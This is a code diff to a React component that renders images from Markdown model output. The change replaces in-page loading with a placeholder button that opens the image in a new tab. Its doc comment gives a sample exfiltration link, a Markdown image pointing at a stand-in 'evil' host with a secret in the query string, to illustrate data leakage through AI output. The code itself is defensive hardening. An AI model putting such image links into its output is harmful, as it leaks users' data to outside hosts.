@@ -1,6 +1,5 @@
 'use client';
 
-import { useState } from 'react';
 import { loadableImageUrl } from '@/lib/math/safeUrl';
 import styles from './MathMarkdown.module.css';
 
@@ -10,12 +9,13 @@ interface RemoteImageProps {
 }
 
 /**
- * An image from rendered text. Nothing is fetched until the reader asks: an image URL in
- * model output can carry data to its host (`![](https://evil/?q=secret)`). Only absolute
- * http(s) URLs can be loaded; anything else stays a label.
+ * An image from rendered text, never loaded in the page: an image URL in model output can
+ * carry data to its host (`![](https://evil/?q=secret)`), and the CSP (`img-src 'self' data:
+ * blob:`) would block it anyway. The placeholder names the host; a click opens the image in
+ * a new tab — the reader's own navigation, without opener or referrer, outside our CSP.
+ * Only absolute http(s) URLs can be opened; anything else stays a label.
  */
 export function RemoteImage({ src = '', alt = '' }: RemoteImageProps) {
-  const [loaded, setLoaded] = useState(false);
   const url = loadableImageUrl(src);
   if (!url) {
     return (
@@ -24,21 +24,20 @@ export function RemoteImage({ src = '', alt = '' }: RemoteImageProps) {
       </span>
     );
   }
-  if (loaded) {
-    // biome-ignore lint/performance/noImgElement: arbitrary remote URL, next/image cannot optimise it
-    return <img className={styles.image} src={url.href} alt={alt} referrerPolicy="no-referrer" />;
-  }
   return (
+    // A button, not a link: an image may sit inside a Markdown link, and links cannot nest.
     <button
       type="button"
       className={`math-image-placeholder ${styles.imagePlaceholder ?? ''}`}
-      title={url.href}
+      title={`Not loaded here. Click to open ${url.href} in a new tab.`}
+      data-image-url={url.href}
       onClick={(event) => {
-        event.preventDefault(); // inside a link, loading the image must not also follow it
-        setLoaded(true);
+        event.preventDefault(); // inside a link, opening the image must not also follow it
+        event.stopPropagation();
+        window.open(url.href, '_blank', 'noopener,noreferrer');
       }}
     >
-      {`Load image from ${url.host}${alt ? ` (${alt})` : ''}`}
+      {`Image from ${url.host}${alt ? ` (${alt})` : ''} — not loaded; open in a new tab ↗`}
     </button>
   );
 }
